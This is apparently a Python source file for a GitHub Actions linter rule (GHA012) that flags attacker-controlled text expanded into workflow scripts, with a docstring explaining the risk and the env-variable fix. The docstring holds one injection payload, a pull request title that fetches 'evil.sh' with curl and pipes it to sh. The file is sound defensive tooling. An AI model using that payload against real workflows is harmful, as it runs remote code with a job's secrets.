from collections.abc import Iterator

from deploylint.context import Context
from deploylint.expressions import attacker_controlled
from deploylint.findings import Confidence, Finding, Severity
from deploylint.models.workflow import Job, Step, Workflow
from deploylint.registry import Kind, rule
from deploylint.rules.workflow._levels import each_step
from deploylint.rules.workflow._util import env_is_tainted, script_sinks
from deploylint.rules.workflow._via_env import via_env

Path = tuple[str, ...]


def _why(wf: Workflow, job: Job, step: Step, path: Path) -> tuple[str, Confidence] | None:
    if attacker_controlled(path):
        return "is attacker-controlled", Confidence.HIGH
    if path[:3] == ("github", "event", "client_payload"):
        return "comes from a repository_dispatch payload (often relayed outside data)", Confidence.MEDIUM
    if path[0] == "env" and len(path) == 2 and env_is_tainted(wf, job, step, path[1]):
        return "holds attacker-controlled text (see its 'env:' definition)", Confidence.HIGH
    if path[0] == "matrix" and len(path) >= 2:
        vals = job.matrix_values(path[1])
        dyn = [s for k, s in job.matrix_dynamic if k in (path[1], "*")]
        for s in (*vals, *dyn):
            for p, _n, _e in s.flowing():
                if attacker_controlled(p):
                    return "is computed from attacker-controlled text", Confidence.HIGH
                inner = _why(wf, job, step, p) if p[:1] != ("matrix",) else None
                if inner is not None:
                    # e.g. a matrix dimension computed from a repository_dispatch payload
                    return f"is computed from a value that {inner[0]}", inner[1]
    if path[0] == "steps" and len(path) >= 4 and path[2] == "outputs":
        return _output_why(job, path[1], path[3])
    if wf.is_action and path[0] == "inputs":
        return "is set by the action's caller", Confidence.LOW
    if path[0] == "inputs" and len(path) >= 2:
        return _input_why(wf, path[1], ("workflow_call", "workflow_dispatch"))
    if path[:3] == ("github", "event", "inputs") and len(path) >= 4:
        return _input_why(wf, path[3], ("workflow_dispatch",))
    return None


#: outputs of popular actions that cannot carry shell syntax: flags, versions, ids, paths, digests
#: (docker/metadata-action's tags are reduced to the tag alphabet [A-Za-z0-9_.-])
_SAFE_OUTPUTS: dict[str, frozenset[str]] = {
    "actions/cache": frozenset({"cache-hit", "cache-primary-key", "cache-matched-key"}),
    "actions/cache/restore": frozenset({"cache-hit", "cache-primary-key", "cache-matched-key"}),
    "actions/checkout": frozenset({"ref", "commit"}),
    "actions/setup-node": frozenset({"cache-hit", "node-version"}),
    "actions/setup-python": frozenset({"python-version", "cache-hit", "python-path"}),
    "actions/setup-go": frozenset({"go-version", "cache-hit"}),
    "actions/setup-java": frozenset({"distribution", "version", "path", "cache-hit"}),
    "actions/upload-artifact": frozenset({"artifact-id", "artifact-url", "artifact-digest"}),
    "actions/download-artifact": frozenset({"download-path"}),
    "actions/upload-pages-artifact": frozenset({"artifact_id"}),
    "actions/deploy-pages": frozenset({"page_url"}),
    "actions/create-github-app-token": frozenset({"token", "installation-id", "app-slug"}),
    "docker/metadata-action": frozenset({"tags", "version", "json", "labels", "annotations"}),
    "docker/build-push-action": frozenset({"imageid", "digest", "metadata"}),
    "docker/setup-buildx-action": frozenset({"name", "driver", "platforms", "nodes", "endpoint", "status"}),
    "aws-actions/amazon-ecr-login": frozenset({"registry"}),
}


def _output_why(job: Job, step_id: str, output: str) -> tuple[str, Confidence] | None:
    """An output of an action of the job, outside the short list of outputs known to be plain:
    text the workflow does not show (an API response, file names, a message), at low confidence.
    Outputs of ``run:`` steps are what the job's own script wrote, and are not reported."""
    src = job.step_with_id(step_id)
    u = src.uses if src is not None else None
    if u is None or u.kind != "repo" or output in _SAFE_OUTPUTS.get(u.name, frozenset()):
        return None
    return f"is an output of '{u.name}' (text this workflow does not show)", Confidence.LOW


#: input types whose values cannot carry shell syntax
_SAFE_INPUT_TYPES = frozenset({"boolean", "number", "choice", "environment"})


def _input_why(wf: Workflow, name: str, events: tuple[str, ...]) -> tuple[str, Confidence] | None:
    """A free-text input, set by a calling workflow or typed in by someone with write access
    when the workflow is run by hand: low confidence (callers mostly pass their own values)."""
    found = {ev for ev, inp in wf.declared_inputs(name) if ev in events and inp.type not in _SAFE_INPUT_TYPES}
    if "workflow_call" in found:
        return "is a string input set by the calling workflow", Confidence.LOW
    if "workflow_dispatch" in found:
        return "is a free-text 'workflow_dispatch' input", Confidence.LOW
    return None


#: medium confidence is a warning; low (a composite action's own inputs and free-text inputs of
#: reusable or hand-run workflows, whose callers mostly pass their own values) an info
_SEVERITY = {Confidence.MEDIUM: Severity.WARNING, Confidence.LOW: Severity.INFO}


@rule(
    id="GHA012",
    name="template-injection",
    title="Attacker-controlled text is expanded into a script",
    kind=(Kind.WORKFLOW, Kind.ACTION),
    severity=Severity.ERROR,
    tags=("security", "injection"),
    security_severity=9.0,
    aliases=("template-injection", "CKV_GHA_2"),
    fixable=True,
)
@each_step
def template_injection(wf: Workflow, job: Job, step: Step, ctx: Context) -> Iterator[Finding]:
    """## Why
    `${{ }}` is replaced *before* the shell (or `actions/github-script`) sees the script, so a
    pull request title such as `a"; curl evil.sh | sh; echo "` becomes code running with the
    job's secrets. Pass the value through an environment variable and quote it:
    `env: TITLE: ${{ github.event.pull_request.title }}` then `echo "$TITLE"`.

    Reported: contexts an outsider controls (issue, pull request, comment, review and discussion
    titles and bodies, commit messages and authors, `github.head_ref`, head branch names and
    labels...), also through an `env:` variable or a matrix value built from them; at medium
    confidence, `repository_dispatch` payloads; at low confidence and `info`, `inputs.*` inside
    composite actions (set by the caller, who mostly passes its own values), free-text inputs of
    a reusable workflow (`workflow_call`: most callers pass their own values, some pass outside
    text) and of a hand-run one (`workflow_dispatch`: only users with write access set them, but
    a value with a quote still breaks or changes the script), and outputs of the job's actions
    (`steps.<id>.outputs.*` of a `uses:` step: an API response, file names, a message), except
    plain outputs of popular actions (`cache-hit`, versions, ids, paths, digests, image tags).
    `boolean`, `number`, `choice` and `environment` inputs are never reported. Values that cannot carry
    shell syntax are never reported: SHAs, numbers, ids, statuses (`steps.*.outcome`), URLs and
    names set by the repository's owners, and results of comparisons or `contains()`.

    ## Example
        on: pull_request
        jobs:
          greet:
            runs-on: ubuntu-latest
            steps:
              - run: echo "Thanks for ${{ github.event.pull_request.title }}"

    ## Use instead
        on: pull_request
        jobs:
          greet:
            runs-on: ubuntu-latest
            steps:
              - run: echo "Thanks for $TITLE"
                env:
                  TITLE: ${{ github.event.pull_request.title }}

    ## Fix safety
    Unsafe: as zizmor does, the `${{ }}` in a POSIX `run:` script is replaced by a shell variable
    (`"$VAR"` where it stood unquoted, `$VAR` inside double quotes, `'"$VAR"'` inside single quotes)
    and `VAR: ${{ ... }}` is added to the step's `env:` (created at the step's indentation when it
    has none). The variable is named from the expression's last parts (`ISSUE_TITLE`, `HEAD_REF`),
    clashing with no `env:` name of the step, job or workflow; `${{ env.X }}` becomes `$X`. The
    script now sees the value as data: text that was meant to be run as shell code (or a value
    whose quotes the script relied on) behaves differently. Only an expression that is one context
    reference is moved; one in a here-document, a comment, `actions/github-script` or a
    PowerShell/cmd step is not fixed.

    ## Differences from zizmor
    zizmor also reports (at lower confidence) matrix values computed from any expression and
    other contexts of unknown origin (outputs of `run:` steps and of other jobs); deploylint
    reports values it can trace to attacker-controlled text, and as `info` inputs and the
    outputs of actions.
    """
    for label, value in script_sinks(step):
        for path, node, e in value.flowing():
            got = _why(wf, job, step, path)
            if got is None:
                continue
            why, conf = got
            fix = via_env(wf, job, step, value, node, e, path) if value is step.run else None
            yield ctx.finding(
                value.node_span(node),
                f"'{value.value[node.start : node.end]}' {why} and is expanded into '{label}'; pass it through 'env:'",
                confidence=conf,
                severity=_SEVERITY.get(conf),
                fix=fix,
            )
